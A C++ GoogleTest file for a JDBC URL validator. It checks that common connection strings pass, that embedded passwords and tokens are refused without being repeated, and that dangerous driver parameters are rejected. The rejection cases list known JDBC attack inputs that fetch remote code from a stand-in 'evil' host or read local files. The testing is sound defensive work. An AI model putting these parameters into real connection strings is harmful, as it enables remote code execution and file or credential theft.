#include "shared/jdbc_url.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace pipekit {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

std::string trouble(std::string_view url, const std::vector<std::string>& allowed = {}) {
  const auto checked = check_jdbc_url(url, allowed);
  return checked ? "" : checked.error().message + " | " + checked.error().hint;
}

TEST(JdbcUrl, what_people_write_is_accepted) {
  for (const auto* url :
       {"jdbc:sqlite:/data/erp.db",
        "jdbc:sqlite:../a b@c.db?foreign_keys=on&busy_timeout=5",
        "jdbc:sqlite:file:/data/a%20b.db?mode=ro&immutable=1",
        "jdbc:sqlite::memory:",
        "jdbc:postgresql:wh",
        "jdbc:postgresql://db.example:5433/wh",
        "jdbc:postgresql://a:1,b,[::2]:3/wh",
        "jdbc:postgresql://%2Frun%2Fpg:5433/my%20db",
        "jdbc:postgresql://h/d?ApplicationName=job&connectTimeout=7&currentSchema=s&sslmode=require&prepareThreshold=0"
        "&targetServerType=primary&options=-c%20timezone=CET&user=a&sslrootcert=/etc/ca.pem&reWriteBatchedInserts=true",
        "jdbc:postgresql://h/d?ssl=true&sslfactory=org.postgresql.ssl.NonValidatingFactory",
        "jdbc:sqlserver://h:1433;databaseName=x;encrypt=true;trustServerCertificate=true",
        "jdbc:sqlserver://h\\SQLEXPRESS;DatabaseName=x;Encrypt=false;applicationIntent=ReadOnly;",
        "jdbc:jtds:sqlserver://h:1433/x;domain=corp",
        "jdbc:mysql://h:3306/x?useSSL=false&serverTimezone=UTC",
        "jdbc:mariadb://h1,h2/x?connectTimeout=10&rewriteBatchedStatements=true",
        "jdbc:mysql:loadbalance://h1,h2/x",
        "jdbc:mysql://address=(host=h)(port=3306)/x",
        "jdbc:db2://h:50000/x",
        "jdbc:db2://h:50000/x:currentSchema=y;sslConnection=true;",
        "jdbc:as400://h/lib;naming=sql;date format=iso;errors=full;translate binary=true",
        "jdbc:oracle:thin:@//h:1521/orcl",
        "jdbc:oracle:thin:@h:1521:orcl",
        "jdbc:oracle:thin:@tcps://h:1522/orcl",
        "jdbc:oracle:oci8:@orcl",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=h)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=o)))",
        "jdbc:h2:tcp://h/~/test;MODE=MSSQLServer;IFEXISTS=TRUE",
        "jdbc:firebirdsql://h:3050/x?encoding=UTF8"}) {
    EXPECT_EQ(trouble(url), "") << url;
  }
}

TEST(JdbcUrl, a_secret_is_refused_in_every_spelling_and_never_repeated) {
  for (const auto* url : {"jdbc:postgresql://h/d?password=hunter22",
                          "jdbc:postgresql://h/d?user=u&PassWord=hunter22",
                          "jdbc:postgresql://h/d?pass%77ord=hunter22",
                          "jdbc:postgresql://h/d?%70%61ssword=hunter22",
                          "jdbc:postgresql://h/d?pass%2577ord=hunter22",
                          "jdbc:postgresql://h/d?a=b%26password%3Dhunter22",
                          "jdbc:postgresql://h/d?password%3Dhunter22",
                          "jdbc:postgresql://h/d?sslpassword=hunter22",
                          "jdbc:postgresql://h/d?ssl_password=hunter22",
                          "jdbc:postgresql://h/d?pass=hunter22",
                          "jdbc:postgresql://h/d?passwd=hunter22",
                          "jdbc:postgresql://h/d?accessToken=hunter22",
                          "jdbc:postgresql://u:hunter22@h/d",
                          "jdbc:postgresql://u:1234@h/hunter22",
                          "jdbc:postgresql://hunter22@h/d",
                          "jdbc:postgresql://u%3Ahunter22%40h/d",
                          "jdbc:postgresql://u:hunter22%40h/d",
                          "jdbc:postgresql://u:hun/ter22@h/hunter22",
                          "jdbc:postgresql:d;password=hunter22",
                          "jdbc:sqlite:/x.db?password=hunter22",
                          "jdbc:sqlite:/x.db?key=hunter22",
                          "jdbc:sqlite:/x.db;password=hunter22",
                          "jdbc:sqlite:file:/x.db?hexkey=hunter22",
                          "jdbc:sqlserver://h;databaseName=x;password=hunter22",
                          "jdbc:sqlserver://h;databaseName=x; PASSWORD = hunter22;",
                          "jdbc:sqlserver://h;password={hunter22;x=y}",
                          "jdbc:sqlserver://h;databaseName={a};Pwd={hunter22}",
                          "jdbc:sqlserver://h;accessToken=hunter22",
                          "jdbc:sqlserver://h;trustStorePassword=hunter22",
                          "jdbc:sqlserver://h;keyStoreSecret=hunter22",
                          "jdbc:mariadb://h/d?user=u&password=hunter22",
                          "jdbc:mysql://u:hunter22@h/d",
                          "jdbc:mysql://address=(host=h)(user=u)(password=hunter22)/d",
                          "jdbc:mysql://(host=h,password=hunter22)/d",
                          "jdbc:mysql://h/d?trustCertificateKeyStorePassword=hunter22",
                          "jdbc:db2://h:50000/d:user=u;password=hunter22;",
                          "jdbc:db2://h:50000/d:password=hunter22",
                          "jdbc:db2://h/d:sslTrustStorePassword=hunter22;",
                          "jdbc:as400://h;user=u;password=hunter22",
                          "jdbc:as400://h;key ring password=hunter22",
                          "jdbc:oracle:thin:scott/hunter22@//h:1521/o",
                          "jdbc:oracle:thin:scott/hunter22@h:1521:o",
                          "jdbc:oracle:oci:scott/hunter22@o",
                          "jdbc:oracle:thin:scott/hunter22",
                          "jdbc:oracle:thin:\"u\"/\"hunter22\"@h:1:o",
                          "jdbc:oracle:thin:@//h/o?oracle.net.wallet_password=hunter22",
                          "jdbc:h2:mem:x;USER=sa;PASSWORD=hunter22",
                          "jdbc:snowflake://h/?private_key_pwd=hunter22",
                          "jdbc:redshift://h/d?SecretAccessKey=hunter22",
                          "jdbc:bigquery://h;OAuthRefreshToken=hunter22",
                          "jdbc:databricks://h;UID=token;PWD=hunter22",
                          "jdbc:anything:x?API-Key=hunter22",
                          "jdbc:anything:x:pass phrase=hunter22",
                          "nonsense?password=hunter22",
                          "jdbc:PostgreSQL://h/d?password=hunter22",
                          "jdbc:log4jdbc:mysql://h/d?password=hunter22"}) {
    const auto words = trouble(url);
    EXPECT_THAT(words, AllOf(HasSubstr("contains a secret"), Not(HasSubstr("hunter22")), Not(HasSubstr("ter22")),
                             HasSubstr("password: $NAME")))
        << url;
  }
}

TEST(JdbcUrl, a_parameter_that_is_not_known_to_be_harmless_is_refused) {
  for (const auto& [url, name] : std::vector<std::pair<std::string, std::string>>{
           {"jdbc:postgresql://h/d?socketFactory=org.x.ClassPathXmlApplicationContext", "socketFactory"},
           {"jdbc:postgresql://h/d?socketFactoryArg=http://evil/x.xml", "socketFactoryArg"},
           {"jdbc:postgresql://h/d?sslfactory=java.io.FileOutputStream", "sslfactory"},
           {"jdbc:postgresql://h/d?loggerFile=/x&loggerLevel=TRACE", "loggerFile"},
           {"jdbc:postgresql://h/d?authenticationPluginClassName=x", "authenticationPluginClassName"},
           {"jdbc:postgresql://h/d?hostaddr=10.0.0.1", "hostaddr"},
           {"jdbc:postgresql://h/d?host=evil", "host"},
           {"jdbc:postgresql://h/d?PGHOST=evil", "PGHOST"},
           {"jdbc:postgresql://h/d?service=x", "service"},
           {"jdbc:postgresql://h/d?passfile=/root/.pgpass", "passfile"},
           {"jdbc:postgresql://h/d?sslkey=engine:key", "sslkey"},
           {"jdbc:postgresql://h/d?sslkey=%2e%2e/x:y", "sslkey"},
           {"jdbc:postgresql://h/d?SSLMODE=require", "SSLMODE"},
           {"jdbc:sqlite:/x.db?vfs=unix-none", "vfs"},
           {"jdbc:sqlite:/x.db?enable_load_extension=true", "enable_load_extension"},
           {"jdbc:sqlite:/x.db?foreign_key=on", "foreign_key"},
           {"jdbc:mysql://h/d?autoDeserialize=true", "autoDeserialize"},
           {"jdbc:mysql://h/d?allowLoadLocalInfile=true", "allowLoadLocalInfile"},
           {"jdbc:mysql://h/d?ALLOWLOADLOCALINFILE=true", "ALLOWLOADLOCALINFILE"},
           {"jdbc:mysql://h/d?queryInterceptors=x", "queryInterceptors"},
           {"jdbc:mysql://(host=h,allowLoadLocalInfile=true)/d", "allowLoadLocalInfile"},
           {"jdbc:mariadb://h/d?localSocket=/x", "localSocket"},
           {"jdbc:sqlserver://h;socketFactoryClass=x", "socketFactoryClass"},
           {"jdbc:sqlserver://h;serverName=evil", "serverName"},
           {"jdbc:sqlserver://h;failoverPartner=evil", "failoverPartner"},
           {"jdbc:db2://h:1/d:traceFile=/x;", "traceFile"},
           {"jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap;", "clientRerouteServerListJNDIName"},
           {"jdbc:as400://h;proxy server=evil", "proxy server"},
           {"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", "INIT"},
           {"jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3", "TRACE_LEVEL_SYSTEM_OUT"},
           {"jdbc:oracle:thin:@//h/o?TNS_ADMIN=/tmp", "TNS_ADMIN"},
           {"jdbc:other://h/d?whatever=1", "whatever"},
           {"jdbc:log4jdbc:mysql://h/d?autoDeserialize=true", "autoDeserialize"}}) {
    EXPECT_THAT(trouble(url), AllOf(StartsWith("has the parameter " + name))) << url;
  }
  EXPECT_THAT(trouble("jdbc:oracle:thin:@ldap://evil/o"), HasSubstr("directory service"));
  EXPECT_THAT(trouble("jdbc:postgresql://h/d?a%62c=1"), HasSubstr("name cannot be read"));
  EXPECT_THAT(trouble("jdbc:postgresql://h/d\n?ssl"), HasSubstr("control character"));
}

TEST(JdbcUrl, the_nearest_parameter_is_named) {
  EXPECT_THAT(trouble("jdbc:postgresql://h/d?sslMode=require"), HasSubstr("did you mean sslmode?"));
  EXPECT_THAT(trouble("jdbc:sqlite:/x.db?foreign_key=on"), HasSubstr("did you mean foreign_keys?"));
}

TEST(JdbcUrl, more_parameters_can_be_allowed_but_no_secrets) {
  EXPECT_EQ(trouble("jdbc:mysql://h/d?autoDeserialize=true", {"autodeserialize"}), "");
  EXPECT_EQ(trouble("jdbc:other://h/d?whatever=1", {"whatever"}), "");
  EXPECT_NE(trouble("jdbc:postgresql://h/d?Whatever=1", {"whatever"}), "");
  EXPECT_THAT(trouble("jdbc:other://h/d?password=x", {"password"}), HasSubstr("contains a secret"));
}

TEST(JdbcUrl, hosts_are_read_or_the_url_has_none_that_can_be_told) {
  const auto hosts = [](std::string_view url) {
    std::string text;
    const auto found = jdbc_hosts(url);
    if (!found) return std::string("unreadable");
    for (const auto& host : *found) text += host.name + " " + host.port + ";";
    return text;
  };
  EXPECT_EQ(hosts("jdbc:postgresql://A:1,b,[0::2]:3/wh"), "a 1;b 5432;::2 3;");
  EXPECT_EQ(hosts("jdbc:postgresql:wh"), "localhost 5432;");
  EXPECT_EQ(hosts("jdbc:postgresql://:5433/wh"), "localhost 5433;");
  EXPECT_EQ(hosts("jdbc:sqlite:/x.db"), "");
  EXPECT_EQ(hosts("jdbc:sqlserver://h\\i:9;x=y"), "h ;");
  EXPECT_EQ(hosts("jdbc:db2://h/d:currentSchema=x;"), "h 50000;");
  EXPECT_EQ(hosts("jdbc:mysql:replication://h1,h2:7/d"), "h1 3306;h2 7;");
  EXPECT_EQ(hosts("jdbc:oracle:thin:@h:7:sid"), "h 7;");
  for (const auto* url : {"jdbc:oracle:thin:@tns", "jdbc:mysql://address=(host=h)/d", "jdbc:postgresql://a,,b%2Cc/d",
                          "jdbc:mysql:///d", "jdbc:x:y", "x", "jdbc:postgresql://h:x/d", "jdbc:postgresql://[::1/d"}) {
    EXPECT_EQ(hosts(url), "unreadable") << url;
  }
}

}  // namespace
}  // namespace pipekit
